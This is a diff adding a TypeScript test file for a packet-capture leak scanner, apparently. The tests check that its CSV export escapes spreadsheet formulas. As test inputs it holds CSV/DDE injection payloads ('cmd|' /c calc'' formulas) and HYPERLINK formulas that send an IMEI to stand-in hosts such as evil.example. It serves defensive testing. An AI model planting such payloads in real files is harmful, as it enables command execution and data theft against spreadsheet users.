@@ -1,0 +1,113 @@
+/** Issue 14: the findings CSV never carries a live spreadsheet formula (OWASP's CSV injection rule). */
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { csvCell, findingsCsv } from '../../src/app/lib/exports';
+import { pcap } from '../capture/build';
+import { ascii, eth, ipv4, tcp } from '../decode/build';
+import { analyzeFile } from '../pipeline';
+
+/** Minimal RFC 4180 parser: quoted fields, doubled quotes, CRLF rows. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
+      else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') row.push(field), (field = '');
+    else if (c === '\n') row.push(field), rows.push(row), (row = []), (field = '');
+    else if (c !== '\r') field += c;
+  }
+  if (field || row.length) row.push(field), rows.push(row);
+  return rows;
+}
+
+/** What a spreadsheet would take for a formula (OWASP: = + - @ tab CR). */
+const DANGEROUS = /^[=+\-@\t\r]/;
+
+describe('csvCell', () => {
+  it.each([
+    ['=1+1', `"'=1+1"`],
+    ['+1+1', `"'+1+1"`],
+    ['-1+1', `"'-1+1"`],
+    ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
+    ['\t=1+1', `"'\t=1+1"`],
+    ['\r=1+1', `"'\r=1+1"`],
+    ['\0=1', `"'\0=1"`],
+    ["-1+1+cmd|' /c calc'!a0", `"'-1+1+cmd|' /c calc'!a0"`],
+    ['=HYPERLINK("http://evil.example/?x=1","click")', `"'=HYPERLINK(""http://evil.example/?x=1"",""click"")"`],
+  ])('neutralises %j', (input, out) => expect(csvCell(input)).toBe(out));
+
+  it('prefixes phone numbers and negative numbers too', () => {
+    expect(csvCell('+8618611428769')).toBe(`"'+8618611428769"`);
+    expect(csvCell('-42')).toBe(`"'-42"`);
+    expect(csvCell(-3.5)).toBe(`"'-3.5"`);
+  });
+
+  it('quotes everything else per RFC 4180, unprefixed', () => {
+    expect(csvCell('862287025963539')).toBe('"862287025963539"');
+    expect(csvCell(42)).toBe('"42"');
+    expect(csvCell(false)).toBe('"false"');
+    expect(csvCell(null)).toBe('""');
+    expect(csvCell(undefined)).toBe('""');
+    expect(csvCell('')).toBe('""');
+    expect(csvCell('a "quoted", comma\r\nand newline')).toBe('"a ""quoted"", comma\r\nand newline"');
+    expect(csvCell(' =1+1')).toBe('" =1+1"');
+    expect(csvCell('a=1')).toBe('"a=1"');
+    expect(csvCell("'=1")).toBe(`"'=1"`);
+  });
+});
+
+describe('a capture built to inject formulas', () => {
+  const HOST = "-1+1+cmd|' /c calc'!a0";
+  const IMEI = '862287025963539';
+  // 28 bytes before the IMEI, the scanner's context excerpt starts at the `=`.
+  const URI = `=HYPERLINK("http://ev.co/?i=${IMEI}","open")`;
+
+  function capture(): Uint8Array {
+    const req = ascii(`GET ${URI} HTTP/1.1\r\nHost: ${HOST}\r\nUser-Agent: @SUM(1+1)*cmd|' /C calc'!A0\r\nX-Device: +8618611428769\r\nX-Imei: ${IMEI}\r\n\r\n`);
+    const c = { sport: 40000, dport: 80 };
+    const s = { sport: 80, dport: 40000 };
+    const segs = [
+      tcp({ ...c, seq: 100, flags: 0x02 }),
+      tcp({ ...s, seq: 500, ack: 101, flags: 0x12 }),
+      tcp({ ...c, seq: 101, ack: 501, flags: 0x10 }),
+      tcp({ ...c, seq: 101, ack: 501, flags: 0x18 }, req),
+    ];
+    return pcap(true, 1, segs.map((t, i) => [i + 1, 0, eth(0x0800, ipv4({ proto: 6, ...(i === 1 ? { src: [10, 0, 0, 2], dst: [10, 0, 0, 1] } : {}) }, t))] as [number, number, Uint8Array]));
+  }
+
+  it('exports every cell as text', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'leakscope-csv-'));
+    try {
+      const path = join(dir, 'inject.pcap');
+      writeFileSync(path, capture());
+      const report = await analyzeFile(path);
+      expect(report.findings.length).toBeGreaterThan(0);
+      // The engine keeps the attacker's text as it came.
+      expect(report.findings.some((f) => f.host === HOST)).toBe(true);
+      expect(report.findings.some((f) => f.context.startsWith('=HYPERLINK('))).toBe(true);
+      expect(report.findings.some((f) => f.value === '+8618611428769')).toBe(true);
+
+      const rows = parseCsv(findingsCsv(report));
+      expect(rows.length).toBe(report.findings.length + 1);
+      const cells = rows.slice(1).flat();
+      expect(cells.filter((c) => DANGEROUS.test(c))).toEqual([]);
+      expect(cells).toContain(`'${HOST}`);
+      expect(cells).toContain(`'+8618611428769`);
+      expect(cells.some((c) => c.startsWith(`'=HYPERLINK("http://ev.co/?i=${IMEI}"`))).toBe(true);
+      // Every row's Host cell is the capture's Host behind the one quote.
+      const host = rows[0].indexOf('host');
+      for (const r of rows.slice(1)) expect(r[host]).toBe(`'${HOST}`);
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
